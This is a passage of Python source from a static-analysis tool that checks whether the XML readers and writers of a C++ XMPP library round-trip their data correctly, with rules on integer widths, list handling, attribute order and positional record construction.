        if t and t.get('k') == 'if' and 'cond' in t:
            bo = f.binop(f.skip(t['cond']))
            if bo and bo[0] in ('<', '>', '<=', '>=') and f.const_value(bo[2]) == ('int', 0):
                decisions.append(('if', t['cond'], bo[1]))
    # signed printf-style formats
    for i, n in f.calls():
        for a in n.get('args', []):
            sv = f.strval(a)
            if sv and '%+' in sv:
                rest = [x for x in n['args'] if x != a]
                if rest:
                    decisions.append(('format', i, rest[0]))
    sign_decisions = [d for d in decisions if d[0] in ('cond', 'format')] or [d for d in decisions if d[0] == 'if']
    if not sign_decisions:
        raise AnalysisBroken('C01.R8: no sign decision recognised in timezoneOffsetToString (restructured beyond what the rule follows)')
    bad = [d for d in sign_decisions if derives_only_from_quotient(d[2])]
    if bad:
        run.violation(rid, 'timezoneOffsetToString#sign-from-quotient', f.loc(bad[0][1]),
                      'the sign of the formatted offset is decided on %s, a quotient of the offset: offsets between -59 and -1 minutes are written with "+" and parse back '
                      'with the wrong sign' % f.fmt(bad[0][2], inline=True)[:40])
    else:
        run.ok(rid, f.loc(sign_decisions[0][1]), 'sign decided on %s' % f.fmt(sign_decisions[0][2], inline=False)[:30])


# --------------------------------------------------------------------------- R9 / R10 / R11: shape of the readers
LIST_TYPES = ('QVector<', 'QList<', 'std::vector<', 'QStringList')
GROW = ('append', 'push_back', 'emplace_back', 'operator<<', 'operator+=', 'insert', 'prepend', 'push_front', 'reserve', 'clear', 'operator=', 'swap', 'resize', 'squeeze',
        'shrink_to_fit')
# set-valued members whose reader de-duplicates on purpose (one reason each)
SHRINK_OK = {'QXmppMessageReaction::parse': 'XEP-0444: the emojis of a reaction are a set; the parser sorts and drops duplicates'}
_WIDTH = {'qint64': 64, 'quint64': 64, 'uint64_t': 64, 'int64_t': 64, 'long long': 64, 'unsigned long long': 64, 'qulonglong': 64, 'qlonglong': 64, 'unsigned long': 64,
          'long': 64, 'size_t': 64, 'std::size_t': 64, 'int': 32, 'unsigned int': 32, 'uint': 32, 'uint32_t': 32, 'int32_t': 32, 'quint32': 32, 'qint32': 32, 'unsigned': 32,
          'quint16': 16, 'qint16': 16, 'uint16_t': 16, 'int16_t': 16, 'short': 16, 'unsigned short': 16, 'ushort': 16, 'quint8': 8, 'qint8': 8, 'uint8_t': 8,
          'unsigned char': 8, 'uchar': 8}
_CONV = {'toInt': 32, 'toUInt': 32, 'toShort': 16, 'toUShort': 16, 'toLong': 64, 'toULong': 64, 'toLongLong': 64, 'toULongLong': 64}


def _int_width(t):
    t = (t or '').replace('const ', '').replace('&', '').strip()
    m = re.match(r'std::optional<(.*)>$', t)
    if m:
        t = m.group(1).strip()
    return _WIDTH.get(t)


_UNSIGNED_CONV = {'toUInt': 32, 'toULongLong': 64, 'toULong': 64, 'toUShort': 16}


def _is_signed_int(t):
    t = (t or '').replace('const ', '').replace('&', '').strip()
    m = re.match(r'std::optional<(.*)>$', t)
    if m:
        t = m.group(1).strip()
    return t in _WIDTH and not t.startswith(('u', 'qu', 'unsigned', 'size_t', 'std::size_t'))


def _unsigned_conversion(f, nid):
    """width of an unsigned text->integer conversion the expression is computed from (Qt's toUInt & co, parseInt<unsigned type>), or None"""
    for j in f.walk(nid):
        m = f.nodes[j]
        if m['k'] != 'call':
            continue
        nm = (f.sym(m) or {}).get('name')
        if nm in _UNSIGNED_CONV and (f.cname(m) or '').startswith(('QString::', 'QStringView::', 'QByteArray::', 'QLatin1String::')):
            return _UNSIGNED_CONV[nm]
        if nm == 'parseInt':
            targ = ((f.sym(m) or {}).get('targs') or '').strip('<>').split(',')[0].strip()
            if targ in _WIDTH and not _is_signed_int(targ):
                return _WIDTH[targ]
    return None


def _is_parser(prog, f):
    top = f
    while top.is_lambda and top.parent_id in prog.fns:
        top = prog.fns[top.parent_id]
    return (top.name.startswith('parse') or top.name == 'fromDom') and not top.raw.get('dependent'), top


def _text_conversion_width(prog, f, nid, depth=0):
    """narrowest text->integer conversion an expression is computed from (through locals and same-file helpers), or None"""
    best = None
    for j in f.walk(nid):
        m = f.nodes[j]
        if m['k'] != 'call':
            continue
        nm = (f.sym(m) or {}).get('name')
        if nm in _CONV and (f.cname(m).startswith(('QString::', 'QStringView::', 'QByteArray::', 'QLatin1String::'))):
            best = _CONV[nm] if best is None else min(best, _CONV[nm])
        elif depth < 2 and not m.get('op'):
            for g in prog.callee_fns(f, m):
                if g.entry is not None and g.file == f.file and g.id != f.id and _int_width(g.raw.get('ret') or m.get('t')) is not None:
                    for _, rn in g.returns():
                        if 'e' in rn:
                            w = _text_conversion_width(prog, g, rn['e'], depth + 1)
                            if w is not None:
                                w = min(w, _int_width(m.get('t')) or w)
                                best = w if best is None else min(best, w)
    return best


def _reader_shape_findings(prog, fns):
    """[(rule, fn, node, key, message)] for the three reader-shape rules over the given functions"""
    out = []
    for f in fns:
        if f.entry is None or f.raw.get('dependent'):
            continue
        isp, top = _is_parser(prog, f)
        if not isp:
            continue
        # R9: a child / attribute read that is control-dependent on the value of another attribute of the element being parsed
        for i, n in f.calls():
            cn = f.cname(n)
            if cn not in ('QXmpp::Private::firstChildElement', 'QDomNode::firstChildElement', 'QDomElement::attribute', 'QDomElement::text', 'QDomElement::attributeNS',
                          'QXmpp::Private::iterChildElements', 'QDomElement::hasAttribute'):
                continue
            mine = f.strval(n['args'][1]) if cn.startswith('QXmpp::Private::') and len(n.get('args', [])) > 1 else (f.strval(n['args'][0]) if n.get('args') else None)
            for c, pol in f.atomic_assertions_at(i):
                bo = f.binop(f.skip(c))
                if not bo or bo[0] not in ('==', '!='):
                    continue
                for x, y in ((bo[1], bo[2]), (bo[2], bo[1])):
                    xn = f.nodes[f.skip(x)]
                    cv = f.const_value(y)
                    if xn['k'] == 'call' and f.cname(xn) == 'QDomElement::attribute' and cv and cv[0] == 'str' and xn.get('args'):
                        other = f.strval(xn['args'][0])
                        if other and other != mine and i not in set(f.walk(c)):
                            out.append(('R9', f, i, '%s#read-guarded-by-attribute:%s' % (top.qname, other),
                                        '%s reads %s only when the attribute "%s" %s "%s", while nothing ties the writer to that condition: an object whose field is set '
                                        'with another %s serializes the field and does not read it back' % (top.display()[:50], ('<%s/>' % mine) if mine else 'a child / attribute',
                                                                                                           other, '==' if (bo[0] == '==') == (pol is True) else '!=', cv[1], other)))
        # R10: while parsing, a multi-valued member only grows
        for i, n in enumerate(f.nodes):
            if n['k'] == 'mem' and any((n.get('t') or '').replace('const ', '').startswith(x) for x in LIST_TYPES):
                k, h = classify_use(f, i)
                if k == 'write' and h.split(' ')[0] not in GROW and not h.startswith('assign') and top.qname not in SHRINK_OK:
                    out.append(('R10', f, i, '%s#list-member-%s:%s' % (top.qname, h.split(' ')[0], n['name']),
                                '%s %s the multi-valued member %s while parsing: an entry that was read from the input is overwritten or dropped, so a list with such '
                                'entries does not survive serialize/parse' % (top.display()[:50], 'applies %s to' % h.split(' ')[0], n['name'])))
        # ... and so does a local list that collects what is read (values of a multi-valued field) before it is stored
        collected = set()
        for i, n in f.calls():
            s_ = f.sym(n) or {}
            tgt = n.get('obj') if n.get('obj') is not None else (n['opargs'][0] if n.get('op') in ('<<', '+=') and n.get('opargs') else None)
            args = n.get('args') if n.get('obj') is not None else (n.get('opargs') or [None])[1:]
            if tgt is None or (s_.get('name') not in ('append', 'push_back', 'operator<<', 'operator+=', 'emplace_back') and n.get('op') not in ('<<', '+=')):
                continue
            tn = f.nodes[f.skip(tgt)]
            if tn['k'] == 'var' and tn.get('vk') == 'local' and any((tn.get('t') or '').replace('const ', '').startswith(x) for x in LIST_TYPES) \
                    and any(a is not None and _from_dom_text(f, a) for a in args):
                collected.add(tn.get('decl'))
        for i, n in f.calls():
            if n.get('obj') is None:
                continue
            tn = f.nodes[f.skip(n['obj'])]
            nm = (f.sym(n) or {}).get('name') or ''
            if tn['k'] == 'var' and tn.get('decl') in collected and top.qname not in SHRINK_OK and \
                    nm in ('removeDuplicates', 'removeAll', 'removeOne', 'removeAt', 'removeFirst', 'removeLast', 'removeIf', 'erase', 'takeFirst', 'takeLast', 'takeAt', 'pop_back',
                           'pop_front', 'clear', 'resize', 'sort', 'remove', 'replace', 'truncate'):
                out.append(('R10', f, i, '%s#collected-values-%s:%s' % (top.qname, nm, tn.get('name')),
                            '%s applies %s() to %s, the list in which it collects the values it reads: values that were in the input (repeated, or in their order) are not what is '
                            'stored, so the object does not serialize back to - or hash like - what was received' % (top.display()[:50], nm, tn.get('name'))))
        for i, n in list(f.all_nodes('assign')) + [(i, n) for i, n in f.calls() if n.get('op') == '=' and len(n.get('opargs', [])) == 2]:
            lhs = f.nodes[f.skip(n['l'] if n['k'] == 'assign' else n['opargs'][0])]
            src = None
            if lhs['k'] == 'call' and lhs.get('op') == '*' and lhs.get('opargs'):
                src = f.nodes[f.skip(lhs['opargs'][0])]
            elif lhs['k'] == 'un' and lhs.get('op') == '*':
                src = f.nodes[f.skip(lhs['e'])]
            elif lhs['k'] == 'var' and lhs.get('vk') == 'local' and (f.defs().get(lhs['decl']) or {}).get('ref'):
                src = lhs          # a reference bound to an element (range-for over the member, find result)
            if src is None or src['k'] != 'var' or src.get('vk') != 'local':
                continue
            member = None
            d0 = f.single_def(src['decl'])
            roots = [d0] if d0 is not None else []
            for b in f.blocks.values():
                t = b.get('term')
                if t and t.get('k') == 'rangefor' and t.get('loopvar') == src['decl']:
                    roots.append(t['range'])
            for r0 in roots:
                for j in f.walk(r0):
                    m = f.nodes[j]
                    if m['k'] == 'mem' and any((m.get('t') or '').replace('const ', '').startswith(x) for x in LIST_TYPES):
                        member = m['name']
            if member and top.qname not in SHRINK_OK:
                out.append(('R10', f, i, '%s#list-member-overwrite:%s' % (top.qname, member),
                            '%s overwrites an entry of the multi-valued member %s while parsing (through %s): of two entries of the input only one survives, so the list does '
                            'not come back as it was written' % (top.display()[:50], member, src.get('name') or 'an iterator')))
        # R11: the text->integer conversion is at least as wide as the member it fills
        for i, n in list(f.all_nodes('assign')) + [(i, n) for i, n in f.calls() if n.get('op') == '=' and len(n.get('opargs', [])) == 2]:
            l = f.nodes[f.skip(n['l'] if n['k'] == 'assign' else n['opargs'][0])]
            r = n['r'] if n['k'] == 'assign' else n['opargs'][1]
            if l['k'] != 'mem':
                continue
            wl = _int_width(l.get('t'))
            if not wl:
                continue
            w = _text_conversion_width(prog, f, r)
            us = _unsigned_conversion(f, r)
            if us is not None and _is_signed_int(l.get('t')) and wl <= us:
                out.append(('R11', f, i, '%s#unsigned-into-signed:%s' % (top.qname, l['name']),
                            '%s fills the signed %d-bit member %s from an unsigned %d-bit text conversion: a value in the upper half of the unsigned range is accepted, wraps to a '
                            'negative number, is written with a minus sign and is rejected (or read as 0) by the same parser on the next pass' % (top.display()[:50], wl, l['name'], us)))
            if w is not None and w < wl:
                out.append(('R11', f, i, '%s#narrow-conversion:%s' % (top.qname, l['name']),
                            '%s fills the %d-bit member %s from a %d-bit text conversion: a value the writer emits correctly (QString::number of the %d-bit member) that does not '
                            'fit %d bits is read back as 0' % (top.display()[:50], wl, l['name'], w, wl, w)))
        # ... the same for a record that the reader builds positionally: element k initialises member k
        for i, n in enumerate(f.nodes):
            if n['k'] != 'initlist' or not n.get('elems'):
                continue
            rec = prog.records.get((n.get('t') or '').replace('const ', '').strip())
            if not rec or len(rec.get('fields', [])) < len(n['elems']):
                continue
            for k, e in enumerate(n['elems']):
                fl = rec['fields'][k]
                wl = _int_width(fl.get('t'))
                if not wl:
                    continue
                w = _text_conversion_width(prog, f, e)
                us = _unsigned_conversion(f, e)
                if us is not None and _is_signed_int(fl.get('t')) and wl <= us:
                    out.append(('R11', f, i, '%s#unsigned-into-signed:%s' % (top.qname, fl['name']),
                                '%s fills the signed %d-bit member %s (positional initialiser) from an unsigned %d-bit text conversion: a value in the upper half of the unsigned '
                                'range wraps to a negative number, is written with a minus sign and is not read back' % (top.display()[:50], wl, fl['name'], us)))
                if w is not None and w < wl:
                    out.append(('R11', f, i, '%s#narrow-conversion:%s' % (top.qname, fl['name']),
                                '%s fills the %d-bit member %s (positional initialiser) from a %d-bit text conversion' % (top.display()[:50], wl, fl['name'], w)))
        # R13: text read from the element is stored as it is, not normalised
        for i, n in f.calls():
            if f.cname(n) not in _NORMALISERS or n.get('obj') is None or not _from_dom_text(f, n['obj']):
                continue
            sink = _stored_as_text(prog, f, i)
            if sink is not None and top.qname not in NORMALISE_OK:
                out.append(('R13', f, i, '%s#stores-normalised-text:%s' % (top.qname, sink[1]),
                            '%s stores text of the element after %s (%s): the writer emits the member as it is, so a value with surrounding blanks / other case that was set '
                            'or received is not what comes back from serialize/parse' % (top.display()[:50], f.cname(n).split('::')[-1] + '()', sink[0])))
        # R14: a freshly parsed child is kept or dropped by emptiness only
        parsed = set()
        for i, n in f.calls():
            if (f.sym(n) or {}).get('name') in ('parse', 'fromDom') and n.get('obj') is not None:
                o = f.nodes[f.skip(n['obj'])]
                if o['k'] == 'var' and o.get('vk') == 'local':
                    parsed.add(o.get('decl'))
        for b in f.blocks.values():
            t = b.get('term')
            if not parsed or not t or t.get('cond') is None:
                continue
            for j in f.walk(t['cond']):
                m = f.nodes[j]
                if m['k'] != 'call' or m.get('obj') is None or m.get('op'):
                    continue
                o = f.nodes[f.skip(m['obj'])]
                s_ = f.sym(m) or {}
                if not (o['k'] == 'var' and o.get('decl') in parsed and s_.get('ret') == 'bool' and s_.get('name') not in ('parse', 'fromDom')):
                    continue
                for g in prog.callee_fns(f, m):
                    if g.entry is None or g.is_lambda:
                        continue
                    why = _value_test_in(g)
                    if why:
                        out.append(('R14', f, j, '%s#value-filter:%s' % (top.qname, g.qname.split('::')[-1]),
                                    '%s keeps a parsed child only if %s() holds, and that predicate looks at member values (%s), not just at whether they are empty: a child whose '
                                    'field holds any other non-blank value is written by the serializer and silently dropped when read back' % (top.display()[:50], g.name, why)))
    return out


def _value_test_in(g):
    """description of a test on member values (beyond emptiness) in a small const predicate, or None"""
    for i, n in enumerate(g.nodes):
        bo = g.binop(i)
        if bo and bo[0] in ('==', '!=', '<', '>', '<=', '>='):
            sides = [g.nodes[g.skip(x)] for x in bo[1:]]
            if any(x['k'] == 'mem' or (x['k'] == 'call' and x.get('obj') is not None and g.nodes[g.skip(x['obj'])]['k'] == 'mem' and (g.sym(x) or {}).get('name') not in ('size', 'count', 'length'))
                   for x in sides) and not all(x['k'] in ('int', 'null', 'bool') or x['k'] == 'mem' and (x.get('tc') or '').startswith(('enum', 'bool', 'int')) for x in sides):
                if any('QString' in (x.get('t') or '') or x['k'] == 'str' for x in sides):
                    return g.fmt(i, inline=False)[:60]
        if n['k'] == 'call' and (g.cname(n) or '') in ('std::find', 'std::find_if', 'std::any_of', 'std::ranges::find', 'QString::contains', 'QString::startsWith', 'QString::endsWith',
                                                   'QStringList::contains', 'QList::contains', 'std::binary_search', 'QRegularExpression::match', 'QString::compare'):
            if any(g.nodes[j]['k'] == 'mem' for a in (n.get('args') or []) + ([n['obj']] if n.get('obj') is not None else []) for j in g.walk(a)):
                return g.fmt(i, inline=False)[:60]
    return None


_NORMALISERS = ('QString::trimmed', 'QString::simplified', 'QString::toLower', 'QString::toUpper', 'QString::toCaseFolded', 'QString::normalized')
_DOM_TEXT = ('QDomElement::attribute', 'QDomElement::text', 'QDomElement::attributeNS', 'QDomNode::nodeValue', 'QDomCharacterData::data')
NORMALISE_OK = {}       # parser qname -> reason (none needed on the tree)


def _from_dom_text(f, nid, depth=0):
    for j in f.walk(nid):
        m = f.nodes[j]
        if m['k'] == 'call' and f.cname(m) in _DOM_TEXT:
            return True
        if m['k'] == 'var' and m.get('vk') == 'local' and depth < 3:
            d = f.single_def(m.get('decl'))
            if d is not None and _from_dom_text(f, d, depth + 1):
                return True
    return False


def _stored_as_text(prog, f, nid, depth=0):
    """(description, name) when the value of node nid ends up in a text member: assigned to a QString member, or handed to a setter / appended to a member list"""
    par = f.parents()
    cur = nid
    while True:
        p = par.get(cur)
        if p is None:
            return None
        pn = f.nodes[p]
        k = pn['k']
        if k in ('cast', 'icast', 'paren', 'tmp', 'bind', 'mat'):
            cur = p
            continue
        if k == 'construct' and (pn.get('cls') or '').split('<')[0] in ('QString', 'QVariant', 'std::optional') and len(pn.get('args', [])) == 1:
            cur = p
            continue
        if k == 'assign' and f.skip(pn['r']) == f.skip(cur) or (k == 'assign' and cur in set(f.walk(pn['r'])) and f.skip(pn['r']) == cur):
            l = f.nodes[f.skip(pn['l'])]
            if l['k'] == 'mem' and 'QString' in (l.get('t') or ''):
                return 'assigned to ' + l['name'], l['name']
            return None
        if k == 'call':
            if pn.get('op') == '=' and len(pn.get('opargs', [])) == 2 and f.skip(pn['opargs'][1]) == f.skip(cur):
                l = f.nodes[f.skip(pn['opargs'][0])]
                if l['k'] == 'mem' and 'QString' in (l.get('t') or ''):
                    return 'assigned to ' + l['name'], l['name']
                return None
            s = f.sym(pn) or {}
            if cur in [f.skip(a) for a in pn.get('args', [])] or cur in pn.get('args', []):
                nm = s.get('name') or ''
                if (s.get('inrepo') or '/controls/' in (s.get('file') or '')) and re.match(r'(set|add|append|insert)[A-Z_]?', nm) and s.get('ret') in ('void', None, ''):
                    return 'handed to %s()' % nm, nm
                if nm in ('append', 'push_back', 'operator<<', 'insert', 'emplace_back') and pn.get('obj') is not None and f.nodes[f.skip(pn['obj'])]['k'] == 'mem':
                    return 'appended to ' + f.nodes[f.skip(pn['obj'])]['name'], f.nodes[f.skip(pn['obj'])]['name']
            if pn.get('op') in ('<<', '+=') and len(pn.get('opargs', [])) == 2 and f.skip(pn['opargs'][1]) == f.skip(cur) and f.nodes[f.skip(pn['opargs'][0])]['k'] == 'mem':
                return 'appended to ' + f.nodes[f.skip(pn['opargs'][0])]['name'], f.nodes[f.skip(pn['opargs'][0])]['name']
            return None
        if k == 'decl' and depth < 2:
            for d in pn.get('decls', []):
                if d.get('init') is not None and f.skip(d['init']) == f.skip(cur) or (d.get('init') is not None and cur in set(f.walk(d['init'])) and _is_wrapper_chain(f, d['init'], cur)):
                    did = d.get('var')
                    for j, m in enumerate(f.nodes):
                        if m['k'] == 'var' and m.get('decl') == did and m.get('vk') == 'local':
                            r = _stored_as_text(prog, f, j, depth + 1)
                            if r is not None:
                                return r
            return None
        return None


def _is_wrapper_chain(f, top, inner):
    cur = f.skip(top)
    while cur != inner:
        n = f.nodes[cur]
        if n['k'] in ('cast', 'icast', 'paren', 'tmp', 'bind', 'mat') and 'e' in n:
            cur = f.skip(n['e'])
        elif n['k'] == 'construct' and len(n.get('args', [])) == 1:
            cur = f.skip(n['args'][0])
        else:
            return False
    return True


def rule_reader_shape(prog, run):
    import os
    from .. import build, facts
    r9 = run.rule('C01.R9', 'a reader does not make reading a child or attribute depend on the value of another attribute of the same element (the writers emit their fields '
                            'whatever the other fields hold): zero expected, positive control in controls/c01_controls.cpp', floor=1)
    r10 = run.rule('C01.R10', 'while parsing, a multi-valued member only grows: no reader overwrites or removes an entry it has read (listed exceptions: set-valued members '
                              'with a reason)', floor=1)
    r11 = run.rule('C01.R11', 'the text-to-integer conversion of a reader is at least as wide as the member it fills (directly, through a local or a same-file helper)', floor=1)
    r13 = run.rule('C01.R13', 'a reader stores the text it read as it is: nothing that went through trimmed() / simplified() / toLower() / toUpper() is assigned to a text member, '
                              'handed to a setter or appended to a member list (normalising for a comparison or an enum conversion is fine)', floor=1)
    r14 = run.rule('C01.R14', 'a child object that was just parsed is kept or dropped by emptiness tests only (blank values are outside the round-trip claim): the validity predicate '
                              'a reader consults does not compare member values with literals or tables - the serializer emits the child whatever non-blank value the field holds',
                   floor=1)
    rids = {'R9': r9, 'R10': r10, 'R11': r11, 'R13': r13, 'R14': r14}
    cpath = os.path.join(build.VERIF, 'controls', 'c01_controls.cpp')
    cprog = facts.Program(build.extract_control(cpath))
    got = {(r, _is_parser(cprog, f)[1].name) for r, f, i, k, m in _reader_shape_findings(cprog, list(cprog.fns.values()))}
    want = {('R9', 'parseGuardedByOtherAttribute'), ('R10', 'parseOverwritesEntry'), ('R11', 'parseNarrow'), ('R11', 'parseNarrowThroughHelper'), ('R13', 'parseNormalises'), ('R14', 'parseFiltersByValue')}
    if ('R14', 'parseFiltersEmpty') in got:
        raise AnalysisBroken('C01.R14: the negative control (emptiness filter) is reported')
    if ('R13', 'parseTolerantFlag') in got:
        raise AnalysisBroken('C01.R13: the negative control (normalised text used for a comparison only) is reported')
    if not want <= got:
        raise AnalysisBroken('C01.R9-R13: positive controls not reported: %s' % sorted(want - got))
    fns = [f for f in prog.fns.values() if '/src/' in f.file]
    found = _reader_shape_findings(prog, fns)
    nparsers = sum(1 for f in fns if f.entry is not None and not f.is_lambda and _is_parser(prog, f)[0])
    for r, f, i, key, msg in found:
        run.instance(rids[r])
        run.violation(rids[r], key, f.loc(i), msg)
    for r in ('R9', 'R10', 'R11', 'R13', 'R14'):
        if not any(x[0] == r for x in found):
            run.instance(rids[r])
            run.ok(rids[r], 'src/base', 'none among %d parse functions (the control is reported)' % nparsers)
    return nparsers


# --------------------------------------------------------------------------- R12: attributes before content
# writeDefaultNamespace / writeNamespace are not in the list: outside a start tag QXmlStreamWriter defers the declaration to the next element (QXmppHash::toXml relies on it)
_ATTR_CALLS = ('QXmlStreamWriter::writeAttribute', 'QXmlStreamWriter::writeAttributes', 'QXmpp::Private::writeOptionalXmlAttribute')
_NS_CALLS = ('QXmlStreamWriter::writeDefaultNamespace', 'QXmlStreamWriter::writeNamespace')
_CONTENT_CALLS = ('QXmlStreamWriter::writeTextElement', 'QXmlStreamWriter::writeCharacters', 'QXmlStreamWriter::writeCDATA', 'QXmlStreamWriter::writeComment',
                  'QXmpp::Private::writeXmlTextElement', 'QXmpp::Private::writeOptionalXmlTextElement', 'QXmpp::Private::writeEmptyElement')
_writer_sum = {}


class _Undecided(Exception):
    pass


def _takes_writer(f, n):
    return any('QXmlStreamWriter' in (f.nodes[f.skip(a)].get('t') or '') for a in n.get('args', []))


def _writer_transfer(prog, depth):
    """state = stack of element states, innermost last: 'O' start tag still open, 'E' empty element open (its parent has content), 'C' has content;
    ('BAD', nid) + 'BAD' once an attribute is written to an element that has content"""
    def transfer(g, nid, st):
        n = g.nodes[nid]
        if n['k'] != 'call' or (st and st[-1] == 'BAD'):
            return None
        cn = g.cname(n)
        if cn == 'QXmlStreamWriter::writeStartElement':
            return ((st[:-1] + ('C',) if st else ()) + ('O',))[-8:]
        if cn == 'QXmlStreamWriter::writeEmptyElement':
            if st and st[-1] == 'E':
                return None
            return ((st[:-1] + ('C',) if st else ()) + ('E',))[-8:]
        if cn == 'QXmlStreamWriter::writeEndElement':
            if st and st[-1] == 'E':
                st = st[:-1]
            return st[:-1] if st else st
        if cn in _ATTR_CALLS:
            if st and st[-1] == 'C':
                return st + (('BAD', nid), 'BAD')
            return None
        if cn in _NS_CALLS:
            return None
        if cn in _CONTENT_CALLS or cn.startswith('QXmlStreamWriter::write'):
            if st and st[-1] == 'E':
                st = st[:-1]
            return st[:-1] + ('C',) if st and st[-1] == 'O' else st
        hs = [h for h in prog.callee_fns(g, n) if h.entry is not None]
        if not hs or not (_takes_writer(g, n) or hs[0].is_lambda):
            if not hs and _takes_writer(g, n) and not n.get('op'):
                # a serialiser defined elsewhere (toXml of a child object): writes elements
                if st and st[-1] == 'E':
                    st = st[:-1]
                return st[:-1] + ('C',) if st and st[-1] == 'O' else st
            return None
        if depth >= 4:
            raise _Undecided()
        outs = _writer_summary(prog, hs[0], depth + 1)
        if outs is None:
            return None
        # outs: exit stacks of the helper started on ('O',): 'keeps' / 'content' / opens elements
        top = st[-1] if st else None
        res = set()
        for o in outs:
            if o and o[-1] == 'BAD':
                continue                                     # reported in the helper itself
            if o == ('A',):                                   # attributes only
                if top == 'C':
                    return st + (('BAD', nid), 'BAD')
                res.add(st)
            elif o == ('O',):
                res.add(st)
            else:
                base = st
                if o and o[0] == 'A':                        # attribute first, then content
                    if top == 'C':
                        return st + (('BAD', nid), 'BAD')
                    o = ('C',) + o[1:]
                if base and base[-1] == 'E':
                    base = base[:-1]
                res.add(((base[:-1] if base else ()) + o)[-8:] if o else base[:-1])
        if len(res) > 1:
            # the helper's paths differ (an early return before it writes anything): some path through it leaves content, and that path decides
            if len(set(len(r) for r in res)) > 1:
                raise _Undecided()
            rs = sorted(res)
            return tuple('C' if any(r[i] == 'C' for r in rs) else rs[0][i] for i in range(len(rs[0])))
        return res.pop() if res else None
    return transfer


def _writer_summary(prog, h, depth):
    """exit stacks of helper h when entered with the caller's element open: ('O',) untouched, ('A',) attributes written, ('C',) content written, ('C','O') a child left open ..."""
    from .. import cfgx
    if h.id in _writer_sum:
        return _writer_sum[h.id]
    _writer_sum[h.id] = None
    if not any(h.cname(n).startswith('QXmlStreamWriter::') or h.cname(n) in _ATTR_CALLS + _CONTENT_CALLS or _takes_writer(h, n) or
               any(x.is_lambda for x in prog.callee_fns(h, n)) for _, n in h.calls()):
        return None
    inner = _writer_transfer(prog, depth)

    def tr(g, nid, st):
        n = g.nodes[nid]
        if n['k'] == 'call' and g.cname(n) in _ATTR_CALLS and st in (('O',), ('A',)):
            return ('A',)
        if st == ('A',):
            r = inner(g, nid, ('O',))
            if r is None or r == ('O',):
                return None
            return ('A',) + r[1:] if r[0] == 'C' else r
        return inner(g, nid, st)
    exits, _ = cfgx.explore(h, ('O',), tr, None, max_states=20000)
    _writer_sum[h.id] = set(exits)
    return _writer_sum[h.id]


def rule_attr_before_content(prog, run):
    from .. import cfgx
    rid = run.rule('C01.R12', 'inside one element every attribute is written before any child element or text: QXmlStreamWriter closes the start tag with the first content, an '
                              'attribute written afterwards ends up as character data and is not read back', floor=60)
    n_fns = 0
    for f in prog.fns.values():
        if f.entry is None or f.raw.get('dependent') or '/src/' not in f.file or f.is_lambda:
            continue
        if not any(g.cname(n) in _ATTR_CALLS for g in prog.closure(f) for _, n in g.calls()):
            continue
        n_fns += 1
        run.instance(rid)
        try:
            exits, _ = cfgx.explore(f, (), _writer_transfer(prog, 0), None, max_states=20000)
        except (_Undecided, cfgx.AnalysisBroken):
            run.ok(rid, f.loc(), 'writer states differ between the exits of a helper or too many states: not decided', nontrivial=False)
            continue
        bad = [st for st in exits if st and st[-1] == 'BAD']
        if bad:
            nid = [x for x in bad[0] if isinstance(x, tuple) and x[0] == 'BAD'][0][1]
            run.violation(rid, '%s#attribute-after-content' % f.outer_name(), f.loc(nid),
                          '%s writes an attribute (%s) after a child element or text of the same element has been written: the start tag is already closed, the attribute '
                          'goes into the output as text and the reader never sees it' % (f.display()[:50], f.fmt(nid, inline=False)[:60]), cfgx.describe_path(f, exits[bad[0]]))
        else:
            run.ok(rid, f.loc(), 'attributes precede content on all paths', nontrivial=False)
    return n_fns


# --------------------------------------------------------------------------- R15: positional construction agrees with the writer, member by member
def rule_positional_records(prog, run):
    rid = run.rule('C01.R15', 'a record that a reader builds positionally (T{ a, b, c } - the i-th expression initialises the i-th declared member) gets, for each member, the element / '
                              'attribute its own writer emits for that member: a name that is read into member i but written for member j means the two values change places on '
                              'every serialize/parse round (reordering the declaration is enough to cause it)', floor=8)
    n = 0
    for f in prog.fns.values():
        if f.entry is None or '/src/' not in f.file or f.raw.get('dependent'):
            continue
        for i, node in enumerate(f.nodes):
            if node['k'] != 'initlist' or len(node.get('elems', [])) < 2:
                continue
            T = (node.get('t') or '').replace('const ', '').strip()
            rec = prog.records.get(T)
            if not rec or len(rec.get('fields', [])) < len(node['elems']):
                continue
            writers = [w for w in prog.fns.values() if w.record == T and w.entry is not None and not w.is_lambda and any('QXmlStreamWriter' in (p_.get('t') or '') for p_ in w.params)]
            if not writers:
                continue
            # names read per element of the initialiser
            read = []
            for e in node['elems']:
                names = set()
                for j in f.walk(e):
                    m = f.nodes[j]
                    if m['k'] == 'call' and (f.cname(m) or '') in codec.R_API:
                        kind, ni = codec.R_API[f.cname(m)]
                        try:
                            for nm in codec.names_of(f, m['args'][ni]):
                                if nm[0] == 'lit' and nm[1]:
                                    names.add((kind, nm[1]))
                        except IndexError:
                            pass
                read.append(names)
            if not any(read):
                continue
            count = {}
            for s_ in read:
                for nm in s_:
                    count[nm] = count.get(nm, 0) + 1
            # members the writer associates with each name: mentioned in the value or in the condition that guards the write
            assoc = {}
            fq = {(x.get('qname') or T + '::' + x['name']): k for k, x in enumerate(rec['fields'])}
            for w in writers:
                for j, c in w.calls():
                    spec = codec.W_API.get(w.cname(c) or '')
                    if not spec:
                        continue
                    kind, ni, vi = spec
                    try:
                        nms = codec.names_of(w, c['args'][ni])
                    except IndexError:
                        continue
                    members = set()
                    srcs = ([c['args'][vi]] if vi is not None and len(c.get('args', [])) > abs(vi) - (1 if vi < 0 else 0) else []) + [x for x, pol in w.atomic_assertions_at(j)]
                    for sx in srcs:
                        for z in w.walk(sx):
                            mz = w.nodes[z]
                            if mz['k'] == 'mem' and mz.get('f') in fq:
                                members.add(fq[mz['f']])
                    for nm in nms:
                        if nm[0] == 'lit' and nm[1] and members:
                            assoc.setdefault((kind, nm[1]), set()).update(members)
            n += 1
            run.instance(rid)
            bad = None
            for k, names in enumerate(read):
                for nm in names:
                    if count[nm] > 1 or nm not in assoc:
                        continue            # the same name read for several members (distinguished by namespace), or written through a sub-object
                    if k not in assoc[nm]:
                        bad = (k, nm, sorted(assoc[nm]))
            if bad:
                k, nm, js = bad
                run.violation(rid, '%s#member-order:%s' % (T, rec['fields'][k]['name']), f.loc(i),
                              '%s builds %s positionally: the %s "%s" is read into member %d (%s), but the writer of %s emits it for %s - after one serialize/parse round the two '
                              'members have exchanged their values' % (f.display()[:50], T.split('::')[-1], 'element' if nm[0] == 'elem' else 'attribute', nm[1], k,
                                                                       rec['fields'][k]['name'], T.split('::')[-1], ', '.join(rec['fields'][x]['name'] for x in js)))
            else:
